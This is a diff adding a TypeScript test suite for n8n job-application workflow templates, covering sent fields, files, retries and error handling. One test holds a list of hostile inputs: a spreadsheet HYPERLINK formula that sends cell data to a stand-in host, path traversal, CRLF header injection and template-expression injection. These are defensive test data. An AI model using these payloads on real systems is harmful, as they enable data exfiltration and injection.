@@ -1,0 +1,196 @@
+import { isEqual, uniq } from 'lodash';
+import { readTemplate } from '../../../tools/n8n/client/template.cts';
+import type { Reply } from '../../../tools/n8n/servers/httpServer.cts';
+import { goodApplication } from '../../../tools/samples/exampleApplication.cts';
+import { TRY_IT } from '../../../tools/templates/description.cts';
+import { DESCRIPTIONS } from '../../../tools/templates/descriptions.cts';
+import { listFiles, shapeOf, withoutFiles, type Sent } from '../../helpers/sent.cts';
+import { FIXTURES, startTemplateTests, type TemplateTests } from '../../helpers/templates.cts';
+
+// Each template that sends applications: what it sends, and what happens if that fails.
+
+let tests: TemplateTests;
+beforeAll(async () => {
+	tests = await startTemplateTests();
+});
+afterAll(async () => await tests?.stop());
+
+const { attachments: [resume, letter] = [] } = goodApplication();
+
+/** Returns a member for each field that an expression reads or a step sets, in any template. */
+function makeMembers(value: unknown): object {
+	const found = JSON.stringify(DESCRIPTIONS).matchAll(/\$json\.(\w+)|"name":"(\w+)"/g);
+	return Object.fromEntries([...found].map(([, read, set]) => [String(read ?? set), value]));
+}
+
+/** Returns an application that has a value in each field that the sender fills. */
+function fillFields(value: string): object {
+	const { candidate } = goodApplication();
+	const location = { raw: value, city: value, zipCode: value, country: value };
+	const names = ['civility', 'firstName', 'lastName', 'email', 'phoneNumber'];
+	return {
+		jobId: value,
+		origin: value,
+		candidate: {
+			...candidate,
+			...Object.fromEntries(names.map((name) => [name, value])),
+			location,
+		},
+		attachments: [resume, letter].map((file) => ({ ...file, type: value, fileName: value })),
+	};
+}
+
+/** Values that could become a formula, a path, a header, code, or an expression. */
+const HOSTILE = [
+	'=HYPERLINK("http://evil.example.com/?"&A1)\'/../..\\',
+	'a\r\nX-Injected: 1\r\n\r\n{{ 7*191 }} ={{ 7*191 }} ${7*191}\u2028',
+	'..',
+	'字'.repeat(200),
+];
+
+const WHY = 'the service says why';
+const FAULTS: ReadonlyArray<readonly [title: string, reply: Reply | undefined]> = [
+	['401', { status: 401 }],
+	['409', { status: 409 }],
+	['422', { status: 422 }],
+	['429', { status: 429, headers: { 'retry-after': '1' } }],
+	['500', { status: 500 }],
+	['no answer', undefined],
+];
+
+const sending = Object.entries(FIXTURES).filter(([, { sends }]) => sends);
+
+describe.each(sending)('%s', (file, { sends = [], ...fixture }) => {
+	let workflow: Awaited<ReturnType<TemplateTests['publish']>>;
+	beforeAll(async () => {
+		workflow = await tests.publish(file);
+	});
+
+	const sendsNoFiles = isEqual(withoutFiles(sends), sends);
+	const expectedFor = (id: number, expected = sends) =>
+		JSON.parse(JSON.stringify(expected).replaceAll('4711', String(id))) as Sent[];
+
+	it.each([
+		[4711, 'mallory@example.com'],
+		[4712, [{ applicationId: 'mallory', id: 'mallory' }]],
+	])(
+		'sends the documented fields and files (%i), whatever other members there are',
+		async (id, value) => {
+			const { error, sent, requests } = await workflow.send({
+				...makeMembers(value),
+				...goodApplication(fixture.application),
+				id,
+			});
+			expect(error).toBeUndefined();
+			expect(sent).toEqual(expectedFor(id));
+			for (const { headers } of requests) expect(headers).toMatchObject(fixture.headers ?? {});
+		},
+	);
+
+	it('sends an application without files', async () => {
+		const { error, sent } = await workflow.send({ id: 4713, attachments: [] });
+		expect(error).toBeUndefined();
+		const expected = fixture.sendsWithoutFiles ?? withoutFiles(sends);
+		expect(sent).toEqual(expectedFor(4713, expected));
+	});
+
+	it('sends each file of an application with two CVs under a name of its own', async () => {
+		const { error, sent } = await workflow.send({ attachments: [resume, letter, resume] });
+		expect(error).toBeUndefined();
+		const files = listFiles(sent);
+		const contents = files.map((name) => name.split(': ').at(-1));
+		expect(contents.sort()).toEqual(fixture.files ?? ['letter', 'resume', 'resume']);
+		const written = sent.flatMap(({ file: name }) => name ?? []);
+		expect(new Set(written).size).toBe(written.length);
+	});
+
+	it('sends the same for an application that arrives again with a change', async () => {
+		const [first, again] = [
+			await workflow.send({ id: 4714 }),
+			await workflow.send({ id: 4714, x: 1 }),
+		];
+		expect([first.error, again.error]).toEqual([undefined, undefined]);
+		expect(again.sent).toEqual(fixture.sendsAgain ?? first.sent);
+	});
+
+	it('sends the values of the candidate as text only', async () => {
+		const usual = await workflow.send(fillFields('usual'));
+		for (const value of HOSTILE) {
+			const { error, sent, requests } = await workflow.send(fillFields(value));
+			expect([value, error]).toEqual([value, undefined]);
+			expect([value, shapeOf(sent)]).toEqual([value, shapeOf(usual.sent)]);
+			const headers = requests.map((request) => Object.keys(request.headers));
+			expect(headers).toEqual(usual.requests.map((request) => Object.keys(request.headers)));
+			expect(JSON.stringify(sent)).not.toContain(String(7 * 191));
+		}
+	});
+
+	it('sends the files, or fails with a message, if a step drops them', async () => {
+		if (sendsNoFiles) return;
+		const { workflowId } = await tests.import(file);
+		const { nodes } = await tests.n8n.session.readWorkflow(workflowId);
+		const { connections } = await readTemplate(file);
+		const next = connections.Application;
+		const id = await tests.n8n.session.createWorkflow({
+			name: `Files are dropped: ${file}`,
+			nodes: [...nodes, DROPPING],
+			connections: {
+				...connections,
+				Application: { main: [[{ node: DROPPING.name, type: 'main', index: 0 }]] },
+				[DROPPING.name]: next,
+			},
+		});
+		const { status, error } = await tests.n8n.session.runManually(id, TRY_IT);
+		const { sent } = await tests.takeSent();
+		if (status === 'success') expect(listFiles(sent)).toEqual(listFiles(sends));
+		else expect([status, error]).toEqual(['error', expect.stringMatching(/file/i)]);
+	});
+
+	const positions = sends.flatMap(({ request }, index) => (request ? [index] : []));
+
+	const otherFaults = (fixture.refusals ?? []).map((status) => [`${status}`, { status }] as const);
+	for (const position of positions) {
+		it.each([...FAULTS, ...otherFaults])(
+			`fails with the reason if request ${position + 1} is answered with %s, and Retry sends nothing twice`,
+			async (_title, reply) => {
+				const body = JSON.parse(
+					JSON.stringify(fixture.refusal ?? { message: 'WHY' }).replace('WHY', WHY),
+				) as unknown;
+				const fault = { position, times: Infinity, reply: reply && { ...reply, body } };
+				const id = (nextId += 1);
+				const failed = await workflow.send({ id }, fault);
+				expect(failed.status).toBe('error');
+				const words = reply ? WHY : /connection/i;
+				expect(`${failed.error} ${failed.description}`).toMatch(words);
+				const refused = failed.requests.length - failed.accepted.length;
+				const { request } = sends[position] as { request: string };
+				const isRepeatable = !/^POST/.test(request) || fixture.repeatable?.includes(request);
+				const expected = expectedFor(id).map((one) => String(one.request));
+				const items = expected.filter((one) => toLine(one) === toLine(request)).length;
+				expect(refused).toBeLessThanOrEqual(isRepeatable ? 3 * items : 1);
+
+				const retried = await workflow.retry(failed.id);
+				expect(retried.status).toBe('success');
+				const all = [...failed.accepted, ...retried.requests].map(
+					({ method, path }) => `${method} ${path}`,
+				);
+				if (isRepeatable) expect(uniq(all)).toEqual(uniq(expected));
+				else expect(all).toEqual(expected);
+			},
+		);
+	}
+});
+
+let nextId = 5000;
+
+const toLine = (request: string) => request.split('?')[0];
+
+/** The output of this step has no files. */
+const DROPPING = {
+	id: 'b4b1b2b0-0000-4000-8000-000000000000',
+	name: 'Look-up',
+	type: 'n8n-nodes-base.set',
+	typeVersion: 3.4,
+	position: [0, -400],
+	parameters: { assignments: { assignments: [] }, options: {} },
+};
